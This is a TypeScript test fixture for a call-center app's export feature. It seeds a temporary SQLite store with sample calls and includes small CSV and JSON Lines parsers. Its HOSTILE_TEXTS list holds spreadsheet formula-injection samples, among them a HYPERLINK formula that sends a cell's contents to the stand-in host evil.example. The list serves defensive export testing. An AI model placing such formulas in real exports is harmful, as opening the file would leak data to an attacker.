/**
 * A small real call store for export tests (real SQLite file, written through the store API),
 * and tiny readers for what exports write (CSV, JSON Lines; Excel is read with exceljs).
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Utterance } from '@shared/domain';
import type { Database } from 'better-sqlite3';
import { createCallStore, type CallStore, type NewCall } from '../../../src/main/core/store/call-store';
import { openDatabase } from '../../../src/main/core/store/db';

export function makeTempDir(prefix = 'switchboard-export-'): { dir: string; cleanup: () => void } {
  const dir = mkdtempSync(join(tmpdir(), prefix));
  return { dir, cleanup: () => rmSync(dir, { recursive: true, force: true }) };
}

/** 2026-01-15 09:12:03.120 UTC: winter, so Europe/Berlin is +01:00. */
export const T0 = Date.UTC(2026, 0, 15, 9, 12, 3, 120);

/** Texts a spreadsheet would run as formulas (or split), as callers could say or agents type. */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  '+1 555 0100',
  '-2',
  '@SUM(A1:A9)',
  '\tstarts with a tab',
  '\rstarts with a carriage return',
];

export interface Fixture {
  dir: string;
  dbPath: string;
  db: Database;
  store: CallStore;
  cleanup: () => void;
}

function call(overrides: Partial<NewCall> & Pick<NewCall, 'id'>): NewCall {
  return {
    callSid: `CA${overrides.id.padStart(32, '0')}`,
    direction: 'inbound',
    from: '+15550100001',
    to: '+15550100999',
    status: 'ended',
    controller: 'ai',
    startedAt: T0,
    endedAt: T0 + 95_250,
    scenario: null,
    endReason: 'caller_hangup',
    ...overrides,
  };
}

function line(callId: string, n: number, overrides: Partial<Utterance>): Utterance {
  return {
    id: `${callId}-u${n}`,
    callId,
    speaker: 'caller',
    text: 'hello',
    final: true,
    startMs: n * 4000,
    endMs: n * 4000 + 3200,
    sentiment: null,
    interrupted: false,
    ...overrides,
  };
}

/**
 * Three calls, newest first: c3 (no lines, live), c2 (outbound, taken over, an alert),
 * c1 (the hostile texts, negative sentiment, quotes, commas, newlines and non-ASCII).
 */
export function buildFixture(): Fixture {
  const { dir, cleanup } = makeTempDir();
  const dbPath = join(dir, 'switchboard.db');
  const db = openDatabase(dbPath);
  const store = createCallStore(db);

  store.insertCall(call({ id: 'c1', startedAt: T0, endedAt: T0 + 95_250 }));
  const c1Lines: Partial<Utterance>[] = [
    { speaker: 'ai', text: 'This call is handled by an AI assistant.' },
    { text: HOSTILE_TEXTS[0]!, sentiment: { score: -0.61, label: 'negative' } },
    { speaker: 'ai', text: HOSTILE_TEXTS[1]! },
    { text: HOSTILE_TEXTS[2]!, sentiment: { score: 0.25, label: 'positive' } },
    { speaker: 'agent', text: HOSTILE_TEXTS[3]! },
    { text: HOSTILE_TEXTS[4]! },
    { speaker: 'ai', text: HOSTILE_TEXTS[5]!, interrupted: true },
    { text: 'I was charged twice, "twice"!\nOn two lines — Über-sorry 💳', sentiment: { score: -0.4, label: 'negative' } },
  ];
  c1Lines.forEach((o, i) => store.appendUtterance(line('c1', i + 1, o)));

  store.insertCall(
    call({ id: 'c2', direction: 'outbound', from: '+15550100999', to: '+4930123456', startedAt: T0 + 3_600_000, endedAt: T0 + 3_600_000 + 61_000, endReason: 'agent_ended', controller: 'agent' }),
  );
  store.appendUtterance(line('c2', 1, { speaker: 'ai', text: 'Hello, this is the clinic calling about your appointment.' }));
  store.appendUtterance(line('c2', 2, { text: 'Yes, I need to move it.', sentiment: { score: 0.1, label: 'neutral' } }));
  store.appendEvent({ id: 'c2-e1', callId: 'c2', type: 'takeover_requested', atMs: 9000, data: {} });
  store.appendEvent({ id: 'c2-a1', callId: 'c2', type: 'alert', atMs: 9000, data: { ruleId: 'asks-for-person', kind: 'asks_for_person', severity: 'critical', title: 'Wants a person' } });
  store.appendEvent({ id: 'c2-e2', callId: 'c2', type: 'takeover', atMs: 12_500, data: {} });

  store.insertCall(call({ id: 'c3', startedAt: T0 + 7_200_000, endedAt: null, status: 'active', endReason: null }));

  return { dir, dbPath, db, store, cleanup: () => (db.open && db.close(), cleanup()) };
}

/** Adds `calls` calls of `linesPerCall` lines each, in one transaction (fast). */
export function addBulk(store: CallStore, db: Database, calls: number, linesPerCall: number, prefix = 'b'): void {
  db.transaction(() => {
    for (let c = 0; c < calls; c++) {
      const id = `${prefix}${String(c).padStart(6, '0')}`;
      store.insertCall(call({ id, startedAt: T0 - (c + 1) * 60_000, endedAt: T0 - (c + 1) * 60_000 + 45_000 }));
      for (let n = 1; n <= linesPerCall; n++) {
        store.appendUtterance(
          line(id, n, {
            speaker: n % 2 ? 'caller' : 'ai',
            text: `line ${n} of call ${c}: I would like to check my balance, please`,
            sentiment: n % 2 ? { score: -0.2, label: 'negative' } : null,
          }),
        );
      }
    }
  })();
}

/** RFC 4180 CSV -> rows of fields (quoted fields may hold commas, quotes and newlines). */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') {
        quoted = false;
      } else {
        field += ch;
      }
    } else if (ch === '"' && field === '') {
      quoted = true;
    } else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else if (ch === '\n') {
      throw new Error(`bare LF outside quotes at ${i}: records must end with CRLF`);
    } else {
      field += ch;
    }
  }
  if (field !== '' || row.length > 0) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}

/** CSV rows -> objects keyed by the header row. */
export function csvRecords(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text.replace(/^\uFEFF/, ''));
  return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i] ?? ''])));
}

export function parseJsonl(text: string): Record<string, unknown>[] {
  if (text === '') return [];
  if (!text.endsWith('\n')) throw new Error('JSON Lines must end with a newline');
  return text
    .slice(0, -1)
    .split('\n')
    .map((l) => JSON.parse(l) as Record<string, unknown>);
}
